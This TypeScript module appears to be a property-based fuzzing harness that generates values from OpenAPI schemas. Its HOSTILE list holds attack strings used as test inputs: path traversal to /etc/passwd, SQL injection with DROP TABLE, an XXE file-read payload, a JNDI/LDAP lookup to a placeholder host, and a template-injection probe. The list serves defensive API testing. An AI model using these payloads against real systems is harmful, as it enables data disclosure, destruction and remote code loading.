import fc from 'fast-check';
import { Schema } from './openapi';

/** Strings a hostile client sends: traversal, injection, markup, placeholders, control and far-off characters, the very long. */
const HOSTILE = [
  '../../etc/passwd',
  "' OR '1'='1' --",
  '"; DROP TABLE service; --',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '${jndi:ldap://x/a}',
  '{{7*7}}',
  '%00%0d%0a',
  '\u0000',
  '\ud800',
  '\u202e\ufeff',
  '😀'.repeat(64),
  'a'.repeat(5000),
  ' ',
  '',
];

/** Any string: plain words, any code point (lone surrogates included), or a hostile one. */
function anyString(schema: Schema): fc.Arbitrary<string> {
  const minLength = schema.minLength ?? 0;
  const maxLength = Math.max(minLength, Math.min(schema.maxLength ?? 40, 300));
  const sized = (s: string) => s.length >= minLength && (schema.maxLength === undefined || s.length <= schema.maxLength);
  return fc.oneof(
    { weight: 4, arbitrary: fc.string({ minLength, maxLength }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', minLength, maxLength }) },
    { weight: 2, arbitrary: fc.constantFrom(...HOSTILE).filter(sized) },
  );
}

function patterned(schema: Schema): fc.Arbitrary<string> | undefined {
  if (!schema.pattern) return undefined;
  try {
    return fc.stringMatching(new RegExp(schema.pattern)).filter((s) => s.length >= (schema.minLength ?? 0) && s.length <= (schema.maxLength ?? Infinity));
  } catch {
    return undefined;
  }
}

function stringOf(schema: Schema): fc.Arbitrary<string> {
  if (schema.format === 'date-time') return fc.date({ min: new Date('1970-01-01T00:00:00Z'), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString());
  if (schema.format === 'date') return fc.date({ min: new Date('1970-01-01T00:00:00Z'), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
  return patterned(schema) ?? anyString(schema);
}

/** The types a schema names, its `type` or those of its alternatives. */
export function typeOf(schema: Schema): string | undefined {
  if (schema.type) return schema.type;
  if (schema.properties) return 'object';
  return undefined;
}

/** Values the schema allows, the schema's own example among them. */
export function valueOf(schema: Schema, depth = 0): fc.Arbitrary<unknown> {
  const generated = generatedValueOf(schema, depth);
  const withExample = schema.example !== undefined ? fc.oneof({ weight: 1, arbitrary: fc.constant(schema.example) }, { weight: 2, arbitrary: generated }) : generated;
  return schema.nullable ? fc.oneof({ weight: 1, arbitrary: fc.constant(null) }, { weight: 5, arbitrary: withExample }) : withExample;
}

function generatedValueOf(schema: Schema, depth: number): fc.Arbitrary<unknown> {
  if (schema.enum?.length) return fc.constantFrom(...schema.enum);
  if (schema.allOf?.length) return valueOf(Object.assign({}, ...schema.allOf), depth);
  const alternatives = schema.oneOf ?? schema.anyOf;
  if (alternatives?.length) return fc.oneof(...alternatives.map((s) => valueOf(s, depth)));
  switch (typeOf(schema)) {
    case 'string':
      return stringOf(schema);
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -1_000_000, max: schema.maximum ?? 1_000_000_000 });
    case 'number':
      return fc.double({ min: schema.minimum ?? -1e9, max: schema.maximum ?? 1e9, noNaN: true, noDefaultInfinity: true });
    case 'boolean':
      return fc.boolean();
    case 'array':
      if (depth > 4) return fc.constant([]);
      return fc.array(valueOf(schema.items ?? {}, depth + 1), { minLength: (schema.minItems as number | undefined) ?? 0, maxLength: 4 });
    case 'object':
      return objectOf(schema, depth);
    default:
      return depth > 3 ? fc.constant({}) : fc.jsonValue({ maxDepth: 2 });
  }
}

function objectOf(schema: Schema, depth: number): fc.Arbitrary<unknown> {
  const properties = schema.properties ?? {};
  if (!Object.keys(properties).length) return depth > 3 ? fc.constant({}) : fc.dictionary(fc.string({ maxLength: 12 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 });
  if (depth > 4) return fc.constant({});
  const shapes = Object.fromEntries(Object.entries(properties).map(([name, s]) => [name, valueOf(s, depth + 1)]));
  return fc.record(shapes, { requiredKeys: (schema.required ?? []).filter((k) => k in properties) });
}

/** A value of another type than the schema's (never one it allows), or undefined when the schema names no type. */
export function wrongTypeFor(schema: Schema): unknown {
  switch (typeOf(schema)) {
    case 'string':
      return schema.format === 'date-time' || schema.enum || schema.pattern ? 12345 : { not: 'a string' };
    case 'integer':
    case 'number':
      return 'not-a-number';
    case 'boolean':
      return 'maybe';
    case 'array':
      return 'not-an-array';
    case 'object':
      return 'not-an-object';
    default:
      return undefined;
  }
}
